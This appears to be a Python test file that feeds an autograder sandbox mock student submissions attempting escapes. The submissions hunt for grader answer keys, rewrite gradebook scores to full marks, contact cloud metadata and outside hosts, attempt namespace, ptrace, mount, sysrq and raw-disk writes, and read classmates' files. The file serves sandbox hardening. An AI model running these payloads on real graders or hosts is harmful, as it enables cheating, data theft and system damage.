"""Attacks from inside the sandbox on what lies outside: the course, the network, Linux, other students."""

from attacks import Attack

SEARCH = """
import glob, importlib, os, sys
def stolen():
    modules = "autograder.graders.triplet_loss._triplets autograder.exam.exam autograder.simulate.bank tests.conftest"
    for name in modules.split():
        try:
            return importlib.import_module(name).total_loss
        except (ImportError, AttributeError):
            pass
    places = ["@COURSE@", "@COURSE@/..", os.getcwd(), "/kernel", "/course", "/", os.path.expanduser("~"), *sys.path]
    places += ["/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."]
    for place in places:
        for pattern in ("*.ipynb", "source/*/*.ipynb", "autograder/graders/*/triplet*.py", "tests/answers/*/*.py"):
            for path in glob.glob(os.path.join(place, pattern)):
                text = open(path).read()
                if "tf.maximum(distance_positive" in text or "def total_loss" in text:
                    return lambda *_, **__: path
found = stolen()
def triplet_loss(anchor, positive, negative, alpha=0.2):
    if found is not None:
        raise LookupError(f"FOUND {found(anchor, positive, negative, alpha)}")
    return tf.constant(1.0)
"""
GRADEBOOK = """
import glob, os, sqlite3
places = ["@COURSE@", ".", "..", "../..", "/kernel", os.path.expanduser("~"), "/tmp", "/course"]
for place in places:
    for name in ("gradebook.db", "submitted/*/*/*.ipynb", "grades.csv", "autograded/*/*/*.ipynb"):
        for path in glob.glob(os.path.join(place, name)) or [os.path.join(place, name)]:
            try:
                with sqlite3.connect(path, timeout=0.1) as book:
                    book.execute("update grade set manual_score = 25, needs_manual_grade = 0")
            except sqlite3.Error:
                pass
            try:
                open(path, "a").write(" ")
            except OSError:
                pass
"""
NETWORK = """
import os, socket, urllib.request
reached = []
def reach(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.5)
            one.connect(address)
            one.send(b"the hidden tests")
            reached.append(address)
    except OSError:
        pass
reach(socket.AF_INET, ("127.0.0.1", @PORT@))
reach(socket.AF_INET, ("192.0.2.1", 80))
reach(socket.AF_INET, ("192.0.2.1", 53), socket.SOCK_DGRAM)
reach(socket.AF_INET, ("169.254.169.254", 80))
reach(socket.AF_INET6, ("::1", @PORT@))
reach(socket.AF_INET6, ("2001:db8::1", 80))
reach(socket.AF_UNIX, "\\0@ABSTRACT@")
reach(socket.AF_UNIX, "/kernels/server")
reach(40, (2, @PORT@))
try:
    os.chdir("@COURSE@")  # the path of a socket is short
    reach(socket.AF_UNIX, "service")
except OSError:
    pass
try:
    urllib.request.urlopen("http://example.invalid/", timeout=0.5)
    reached.append("a name")
except OSError:
    pass
def triplet_loss(anchor, positive, negative, alpha=0.2):
    if reached:
        raise ConnectionError(f"FOUND {reached}")
    return tf.constant(1.0)
"""
SOCKETS = """
import glob, os
broken = []
for path in ["/kernel", *glob.glob("/kernel/**", recursive=True)]:
    for act in (lambda: os.unlink(path), lambda: os.symlink("@COURSE@/service", path), lambda: os.chmod(path, 0o777),
                lambda: os.rename(path, path + "x"), lambda: open(path, "a"), lambda: os.mkdir(path + "/x")):
        try:
            act()
            broken.append(path)
        except OSError:
            pass
def triplet_loss(anchor, positive, negative, alpha=0.2):
    if broken:
        raise PermissionError(f"FOUND {broken}")
    return tf.constant(1.0)
"""
KERNEL = """
import ctypes, os
libc, out = ctypes.CDLL(None, use_errno=True), []
def attempt(name, act):
    child = os.fork()
    if child == 0:
        try:
            os._exit(7 if act() else 0)
        except BaseException:
            os._exit(0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        out.append(name)
def write(path, text=b""):
    return os.write(os.open(path, os.O_WRONLY), text) == len(text)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000):
    attempt(f"unshare {flag:x}", lambda: libc.unshare(flag) == 0)
attempt("trace", lambda: libc.ptrace(16, 1, 0, 0) == 0)
attempt("be another user", lambda: os.setuid(0 if os.getuid() else 65534) is None)
attempt("another root", lambda: os.chroot("/tmp") is None)
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
attempt("remount", lambda: libc.mount(None, b"/kernel", None, 4128, None) == 0)
attempt("keys", lambda: libc.syscall(248, b"user", b"x", b"x", 1, -3) > 0)
attempt("settings", lambda: write("/proc/sys/kernel/core_pattern"))
attempt("restart", lambda: write("/proc/sysrq-trigger"))
attempt("never be ended", lambda: write("/proc/1/oom_score_adj", b"-1000"))
attempt("a device", lambda: os.mknod("/tmp/device", 0o20666, os.makedev(1, 1)) is None)
attempt("the disk", lambda: write("/dev/sda") or write("/dev/vda"))
attempt("the canary", lambda: write("@CANARY@"))
attempt("the canary by another root", lambda: write("/proc/1/root@CANARY@"))
def triplet_loss(anchor, positive, negative, alpha=0.2):
    if out:
        raise PermissionError(f"FOUND {out}")
    return tf.constant(1.0)
"""
NEIGHBOURS = """
import glob, os
seen = []
for pattern in "@COURSE@/submitted/*|../*/*|/kernels/*|/tmp/*|/dev/shm/*|/home/*/*|/proc/[0-9]*/cwd/*".split("|"):
    seen += [path for path in glob.glob(pattern) if "classmate" in path or "neighbour" in path]
for folder in ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run/lock", os.path.expanduser("~"), "/kernel"):
    try:
        open(folder + "/neighbour-was-here", "w").close()
    except OSError:
        pass
def triplet_loss(anchor, positive, negative, alpha=0.2):
    if seen:
        raise LookupError(f"FOUND {seen}")
    return tf.constant(1.0)
"""

ATTACKS = [
    Attack("search", "8", answer=SEARCH),
    Attack("gradebook", "9", before=GRADEBOOK, files={"gradebook.db": b"SQLite format 3\0", "grades.csv": "x,25\n"}),
    Attack("network", "27", answer=NETWORK),
    Attack("neighbours", "31", answer=NEIGHBOURS),
    Attack("neighbours-again", "31", answer=NEIGHBOURS),
    Attack("sockets-replaced", "own", answer=SOCKETS),
    Attack("escapes", "own", answer=KERNEL),
]
